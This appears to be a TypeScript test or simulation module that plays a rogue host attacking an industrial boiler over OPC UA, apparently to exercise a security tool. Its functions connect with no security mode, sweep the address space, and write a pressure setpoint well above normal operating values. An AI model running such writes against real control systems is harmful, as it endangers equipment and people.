/** The attacks on the boiler, played by a host of no zone on the endpoint that nobody switched off. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type BrowseDescriptionLike,
  BrowseDirection,
  type ClientSession,
  type NodeId,
  resolveNodeId,
} from 'node-opcua';
import { writeSetpoint } from './boiler-clients.ts';
import { connectOpcua } from './opcua-client.ts';
import { identityIn } from './opcua-identity.ts';

export interface BoilerTarget {
  readonly from: string;
  readonly url: string;
}

/** Nodes that a sweep asks about; the standard's own are a few thousand. */
const SWEPT = 1200;
/** Nodes in one request, as browsers send it. */
const AT_ONCE = 25;

/** bar. Far above what the operator ever sets. */
const ROGUE_SETPOINT = 15.5;

/** Each tool of the host is an application of its own, with a certificate that it made just now. */
async function asNobody<T>(
  tool: string,
  { from, url }: BoilerTarget,
  work: (session: ClientSession) => Promise<T>,
): Promise<T> {
  const folder = await mkdtemp(join(tmpdir(), 'lockkeeper-rogue-'));
  try {
    const application = { uri: `urn:rogue:${tool}`, name: tool, host: from };
    const identity = await identityIn(folder, application);
    const connection = await connectOpcua({ from, url, identity, mode: 'None' });
    try {
      return await work(connection.session);
    } finally {
      await connection.close();
      await identity.store.dispose();
    }
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

/** Walks the whole address space, as a tool does that wants to know what there is. Gives the number of nodes asked about. */
export function browseSweep(target: BoilerTarget): Promise<number> {
  return asNobody('browser', target, async (session) => {
    const seen = new Set<string>(['i=84']);
    const waiting: NodeId[] = [resolveNodeId('RootFolder')];
    let asked = 0;
    while (waiting.length > 0 && asked < SWEPT) {
      const now = waiting.splice(0, AT_ONCE);
      asked += now.length;
      const results = await session.browse(now.map(forward));
      for (const { nodeId } of results.flatMap(({ references }) => references ?? [])) {
        if (seen.has(nodeId.toString())) continue;
        seen.add(nodeId.toString());
        waiting.push(nodeId);
      }
    }
    return asked;
  });
}

const forward = (nodeId: NodeId): BrowseDescriptionLike => ({
  nodeId,
  referenceTypeId: 'HierarchicalReferences',
  browseDirection: BrowseDirection.Forward,
  includeSubtypes: true,
  resultMask: 63,
});

/** Writes the pressure's setpoint, without a name and without security. Gives what the server said. */
export function rogueSetpoint(target: BoilerTarget): Promise<{ bar: number; status: string }> {
  return asNobody('writer', target, async (session) => {
    const status = await writeSetpoint(session, ROGUE_SETPOINT);
    return { bar: ROGUE_SETPOINT, status: status.name };
  });
}
